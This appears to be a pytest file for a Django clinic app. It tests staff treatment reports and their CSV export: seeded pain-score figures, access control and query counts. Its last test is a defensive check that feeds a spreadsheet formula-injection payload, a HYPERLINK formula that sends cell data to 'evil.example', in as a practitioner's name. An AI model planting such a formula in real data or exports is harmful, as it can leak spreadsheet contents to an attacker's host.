"""Staff reports: the figures for a seeded data set, as a page and as CSV."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from tests.factories import PatientFactory, PractitionerFactory
from tests.treatments.factories import past_slot, session_logged
from treatments.selectors import session_report

REDNESS = {"kind": "redness", "severity": "mild", "action_taken": "Observed"}
TINGLING = {"kind": "tingling", "severity": "mild", "action_taken": "Observed"}
BRUISING = {"kind": "bruising", "severity": "mild", "action_taken": "Cold pack"}


@pytest.fixture
def seeded(db, wbc, acupuncture_follow_up):
    """Two practitioners, three patients; one older session outside the reported period.

    Whole-body (Freya Frost): A 8->6, 7->5, 5->4 (responder, 3 points); B 6->6, 6->5 (not);
      one session of A has two adverse events (counts once).  Mean immediate change 6/5 = 1.20.
    Acupuncture follow-up (Nikhil Needham): C 7->4 with bruising, one session (not assessable).
    """
    frost = PractitionerFactory(user__first_name="Freya", user__last_name="Frost", modalities=[wbc])
    needham = PractitionerFactory(
        user__first_name="Nikhil", user__last_name="Needham", modalities=[acupuncture_follow_up]
    )
    a, b, c = PatientFactory(), PatientFactory(), PatientFactory()
    session_logged(patient=a, practitioner=frost, modality=wbc, starts_at=past_slot(60), pain_before=9, pain_after=1)
    for days_ago, before, after, events in [(20, 8, 6, [REDNESS, TINGLING]), (13, 7, 5, []), (6, 5, 4, [])]:
        session_logged(
            patient=a, practitioner=frost, modality=wbc, starts_at=past_slot(days_ago),
            pain_before=before, pain_after=after, adverse_events=events,
        )  # fmt: skip
    for days_ago, before, after in [(15, 6, 6), (8, 6, 5)]:
        session_logged(
            patient=b, practitioner=frost, modality=wbc, starts_at=past_slot(days_ago),
            pain_before=before, pain_after=after,
        )  # fmt: skip
    session_logged(
        patient=c, practitioner=needham, modality=acupuncture_follow_up, starts_at=past_slot(3),
        pain_before=7, pain_after=4, adverse_events=[BRUISING],
    )  # fmt: skip
    today = timezone.localdate()
    return {"date_from": str(today - timedelta(days=30)), "date_to": str(today)}


def _csv(client, **params) -> list[list[str]]:
    response = client.get(reverse("treatments:report_csv"), params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.content.decode())))


HEADER = [
    "group",
    "sessions",
    "mean_immediate_change_points",
    "patients_assessed",
    "responders",
    "responder_rate_percent",
    "sessions_with_adverse_events",
    "adverse_event_rate_percent",
    "courses_below_baseline_floor",
    "questionnaire_courses_assessed",
    "questionnaire_courses_improved",
    "questionnaire_improved_rate_percent",
]


def test_csv_per_modality_has_one_header_row_and_the_seeded_figures(practitioner_client, seeded):
    rows = _csv(practitioner_client, **seeded, group_by="modality")
    assert rows == [
        HEADER,
        ["Acupuncture", "1", "3.00", "0", "0", "", "1", "100.0", "0", "0", "0", ""],
        ["Whole-body cryotherapy", "5", "1.20", "2", "1", "50.0", "1", "20.0", "0", "0", "0", ""],
    ]


def test_csv_per_practitioner_has_the_seeded_figures(practitioner_client, seeded):
    rows = _csv(practitioner_client, **seeded, group_by="practitioner")
    assert rows == [
        HEADER,
        ["Freya Frost", "5", "1.20", "2", "1", "50.0", "1", "20.0", "0", "0", "0", ""],
        ["Nikhil Needham", "1", "3.00", "0", "0", "", "1", "100.0", "0", "0", "0", ""],
    ]


def test_report_page_shows_the_same_figures(practitioner_client, seeded):
    response = practitioner_client.get(reverse("treatments:report"), {**seeded, "group_by": "modality"})
    assert response.status_code == 200
    page = response.content.decode()
    assert "Whole-body cryotherapy" in page
    assert "1 of 2" in page
    assert "50.0%" in page
    assert "20.0% (1)" in page
    assert "Download CSV" in page


def test_report_range_with_end_before_start_is_refused(practitioner_client, db):
    response = practitioner_client.get(
        reverse("treatments:report_csv"), {"date_from": "2026-02-01", "date_to": "2026-01-01", "group_by": "modality"}
    )
    assert response.status_code == 400


def test_patients_cannot_see_reports(patient_client):
    assert patient_client.get(reverse("treatments:report")).status_code == 403
    assert patient_client.get(reverse("treatments:report_csv")).status_code == 403


def test_report_queries_do_not_grow_with_the_number_of_sessions(seeded, patient, practitioner, wbc):
    today = timezone.localdate()
    window = {"date_from": today - timedelta(days=30), "date_to": today}
    with CaptureQueriesContext(connection) as few:
        session_report(**window)
    for days_ago in range(1, 9):
        session_logged(patient=patient, practitioner=practitioner, modality=wbc, starts_at=past_slot(days_ago))
    with CaptureQueriesContext(connection) as many:
        rows = session_report(**window, group_by="practitioner")
    assert len(many) == len(few)
    assert sum(row.sessions for row in rows) == 6 + 8


def test_csv_cell_from_a_practitioners_name_is_not_a_live_formula(practitioner_client, wbc):
    """A name typed as a formula must reach the spreadsheet as text, never be evaluated."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    mallory = PractitionerFactory(user__first_name=formula, user__last_name="Smith", modalities=[wbc])
    session_logged(patient=PatientFactory(), practitioner=mallory, modality=wbc, starts_at=past_slot(2))
    today = timezone.localdate()
    rows = _csv(
        practitioner_client, date_from=str(today - timedelta(days=30)), date_to=str(today), group_by="practitioner"
    )
    [row] = rows[1:]
    assert row[0] == "'" + formula + " Smith"
